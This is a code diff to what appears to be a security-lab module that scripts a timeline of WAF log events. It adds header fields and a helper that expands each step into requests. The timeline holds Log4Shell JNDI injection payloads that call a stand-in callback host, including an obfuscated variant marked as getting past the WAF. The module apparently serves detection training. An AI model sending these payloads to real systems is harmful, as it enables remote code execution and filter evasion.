@@ -7,7 +7,7 @@ moves together in proportion. ATT&CK ids: https://attack.mitre.org/techniques/en
 from __future__ import annotations
 
 from dataclasses import dataclass, field
-from typing import Any, Dict, Iterator, Mapping, NamedTuple, Tuple
+from typing import Any, Dict, Iterator, List, Mapping, NamedTuple, Tuple
 
 from lab.story import cast
 
@@ -118,6 +118,7 @@ TIMELINE: Tuple[Step, ...] = (
             "client_ip": cast.ATTACKER_SCANNER_IP,
             "host": cast.SITE,
             "uris": ("/", "/login", "/search", "/api/cart"),
+            "headers": ("User-Agent", "X-Api-Version", "Referer"),
             "payload": "${jndi:ldap://" + cast.CALLBACK_HOST + ":1389/a}",
             "action": "BLOCK",
         },
@@ -133,6 +134,7 @@ TIMELINE: Tuple[Step, ...] = (
             "client_ip": cast.ATTACKER_SCANNER_IP,
             "host": cast.SITE,
             "uris": ("/login",),
+            "headers": (),  # it is in the query string
             "payload": "${${lower:j}ndi:${lower:l}dap://" + cast.CALLBACK_HOST + ":1389/Login}",
             "action": "ALLOW",
         },
@@ -343,6 +345,11 @@ def moment_ms(minute: float, start_ms: int, end_ms: int) -> int:
     """Return when a step's ``minute`` is in a story from ``start_ms`` to ``end_ms``, in epoch milliseconds."""
     span_ms = min(end_ms - start_ms, SPAN_MINUTES * 60_000)
     return end_ms - round(span_ms * minute / SPAN_MINUTES)
+
+
+def requests(step: Step) -> List[Tuple[str, str]]:
+    """Return the requests of a step of the WAF's log: the URI, and the header that holds the payload (none if "")."""
+    return [(uri, header) for uri in step.facts["uris"] for header in step.facts["headers"] or ("",)]
 
 
 def calls(start_ms: int, end_ms: int) -> Iterator[TimedCall]:
